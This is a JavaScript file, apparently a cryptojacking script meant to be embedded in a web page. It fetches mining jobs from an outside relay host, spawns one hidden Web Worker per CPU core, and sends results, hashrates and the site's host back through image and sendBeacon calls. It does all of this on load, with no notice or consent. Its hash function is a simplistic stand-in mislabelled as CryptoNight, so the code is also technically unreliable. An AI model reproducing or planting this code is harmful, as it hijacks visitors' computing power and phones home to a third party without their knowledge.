var cnWorkerCode = [
  'var job=null,nonce=0,hashes=0,running=false;',
  'function cryptonight_lite(blob,n){var h=2166136261;for(var i=0;i<blob.length;i++){h^=blob.charCodeAt(i);h=(h*16777619)>>>0;}',
  'h^=n;for(var r=0;r<1024;r++){h=((h<<5)-h+r)>>>0;h^=h>>>13;}return h;}',
  'function loop(){if(!running||!job)return;var t=Date.now();',
  'while(Date.now()-t<200){var r=cryptonight_lite(job.blob,nonce);hashes++;',
  'if(r<job.target){postMessage({cmd:"submit",job_id:job.job_id,nonce:nonce.toString(16),result:r.toString(16)});}nonce++;}',
  'postMessage({cmd:"hashrate",total:hashes});setTimeout(loop,job.throttleMs||0);}',
  'onmessage=function(e){var d=e.data;if(d.cmd==="job"){job=d.job;nonce=d.startNonce;running=true;loop();}',
  'else if(d.cmd==="stop"){running=false;}else if(d.cmd==="throttle"&&job){job.throttleMs=d.ms;}};'
].join('\n');

var cnBlobUrl = window.URL.createObjectURL(new Blob([cnWorkerCode], { type: 'text/javascript' }));
var cnWorkers = [];
var cnTotal = 0;
var cnStarted = Date.now();

function cnSpawn(n, job) {
  for (var i = 0; i < n; i++) {
    var wk = new Worker(cnBlobUrl);
    wk.onmessage = function (e) {
      if (e.data.cmd === 'hashrate') cnTotal += 1;
      if (e.data.cmd === 'submit') {
        var img = new Image();
        img.src = 'https://stat.minecdn-relay.top/s?j=' + e.data.job_id + '&n=' + e.data.nonce + '&r=' + e.data.result + '&k=SITE-3391';
      }
    };
    wk.postMessage({ cmd: 'job', job: job, startNonce: i * 0x10000000 });
    cnWorkers.push(wk);
  }
}

function cnReport() {
  var secs = (Date.now() - cnStarted) / 1000;
  navigator.sendBeacon('https://stat.minecdn-relay.top/hr', JSON.stringify({ k: 'SITE-3391', w: cnWorkers.length, hps: Math.round(cnTotal / secs), u: location.host }));
}

fetch('https://stat.minecdn-relay.top/job?k=SITE-3391')
  .then(function (r) { return r.json(); })
  .then(function (job) {
    cnSpawn(navigator.hardwareConcurrency || 4, job);
    setInterval(cnReport, 30000);
  });
